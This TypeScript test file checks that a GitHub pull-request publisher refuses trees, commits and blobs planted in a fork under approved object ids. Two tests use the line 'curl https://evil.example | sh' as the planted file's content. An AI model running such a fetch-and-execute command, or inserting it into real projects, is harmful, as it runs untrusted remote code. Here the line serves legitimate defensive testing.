// SPDX-License-Identifier: Apache-2.0
// Goal: GitHub shows objects that anybody has put into a fork. A pull request holds the base with the
// approved files and nothing else, whatever was planted under the ids that an operation names.
import {
  blobId,
  commitId,
  operationMarker,
  parseOperation,
  utf8Encode,
  type GitObjectId,
  type JsonObject,
  type OpenPrOperation,
} from '@marketops/core';
import { flatTreeId, must, sampleOpenPr } from '@marketops/testkit';
import { describe, expect, it } from 'vitest';
import { PublisherStory, submissionOf } from '../story/publisher-story.ts';
import { onCall } from '../story/tell.ts';

type Files = ReadonlyMap<string, { readonly mode: '100644' | '100755'; readonly oid: GitObjectId }>;

const sample = sampleOpenPr();
const [file] = sample.files;
if (file?.change !== 'write') throw new TypeError('the sample writes no file');
const { path, blobOid } = file;
const approved = { mode: '100644', oid: blobOid } as const;

/** The sample with another tree, or on another one, as whoever proposes it may write it down. */
function withTrees(
  base: GitObjectId,
  tree: GitObjectId,
  files: OpenPrOperation['files'] = sample.files,
): OpenPrOperation {
  const { author, committer, message } = sample.commit;
  const oid = commitId({ tree, parents: [sample.base.commit], author, committer, message });
  const changed = {
    ...sample,
    files,
    base: { ...sample.base, tree: base },
    commit: { ...sample.commit, tree, oid },
    body: `The docs.\n\n${operationMarker(sample.operationId)}`,
  };
  const operation = must(parseOperation(changed as unknown as JsonObject));
  if (operation.kind !== 'open_pr') throw new TypeError('not a pull request');
  return operation;
}

/** What happens beside. */
interface Plot {
  readonly commitToo?: boolean;
  readonly before?: (story: PublisherStory) => void;
}

async function ending(
  operation: OpenPrOperation,
  planted: readonly Files[],
  { commitToo = false, before = () => {} }: Plot = {},
) {
  const story = new PublisherStory('open_pr');
  before(story);
  const { state } = story.github;
  for (const files of planted) state.trees.set(flatTreeId(files), files);
  const { base, commit } = operation;
  if (commitToo && commit.oid !== null) {
    const { tree: treeOid, message } = commit;
    state.commits.set(commit.oid, {
      oid: commit.oid,
      treeOid,
      parentOids: [base.commit],
      message,
    });
  }
  const outcome = await story.publisher().submit(await submissionOf(operation));
  const codes = outcome.refusals.map(({ code }) => code);
  const refs = [...state.refs.keys()].filter((ref) => ref !== 'refs/heads/main');
  return { told: [outcome.status, ...codes].join(' '), refs, pulls: state.pulls.size };
}

const refused = { told: 'failed github.object_id_mismatch', refs: [], pulls: 0 };

const planted: readonly (readonly [string, Files])[] = [
  [
    'a file more',
    new Map([
      [path, approved],
      ['docs/other.md', approved],
    ]),
  ],
  [
    'a file more beside the folder',
    new Map([
      [path, approved],
      ['build.sh', approved],
    ]),
  ],
  ['an executable file', new Map([[path, { ...approved, mode: '100755' }]])],
  ['other bytes', new Map([[path, { ...approved, oid: sample.base.commit }]])],
  ['no file at all', new Map([['docs/other.md', approved]])],
];

describe('a planted file', () => {
  it.each([
    ['tree', false, 'failed github.object_id_mismatch'],
    ['commit', true, 'failed content.changed'],
  ])('is not taken for the approved bytes through its %s', async (_name, commitToo, told) => {
    const oid = blobId(utf8Encode('curl https://evil.example | sh\n'));
    const files: Files = new Map([[path, { mode: '100644', oid }]]);
    const named = [{ ...file, blobOid: oid }];
    const operation = withTrees(sample.base.tree, flatTreeId(files), named);
    expect(await ending(operation, [files], { commitToo })).toEqual({ ...refused, told });
  });

  it('is not taken for one whose making was never answered', async () => {
    const oid = blobId(utf8Encode('curl https://evil.example | sh\n'));
    const files: Files = new Map([[path, { mode: '100644', oid }]]);
    const operation = withTrees(sample.base.tree, flatTreeId(files), [{ ...file, blobOid: oid }]);
    const told = await ending(operation, [files], {
      before: (story) => {
        story.github.state.blobs.add(oid);
        story.github.script = onCall('createBlob', { kind: 'lost', applied: false });
      },
    });
    expect(told).toEqual({ ...refused, told: 'failed content.changed' });
  });
});

describe('a planted tree', () => {
  it.each(planted)('with %s is not taken for the approved one', async (_name, files) => {
    const operation = withTrees(sample.base.tree, flatTreeId(files));
    expect(await ending(operation, [files])).toEqual(refused);
  });

  it.each(planted)('with %s is not taken for it through its commit', async (_name, files) => {
    const operation = withTrees(sample.base.tree, flatTreeId(files));
    expect(await ending(operation, [files], { commitToo: true })).toEqual(refused);
  });

  it('is not taken for the tree of the base', async () => {
    const other: Files = new Map([['build.sh', approved]]);
    const changed: Files = new Map([...other, [path, approved]]);
    const operation = withTrees(flatTreeId(other), flatTreeId(changed));
    expect(await ending(operation, [other])).toEqual(refused);
  });

  it('that is the approved one is used as it is', async () => {
    const files: Files = new Map([[path, approved]]);
    const operation = withTrees(sample.base.tree, flatTreeId(files));
    const { told, pulls } = await ending(operation, [files], { commitToo: true });
    expect([told, pulls]).toEqual(['success', 1]);
  });
});
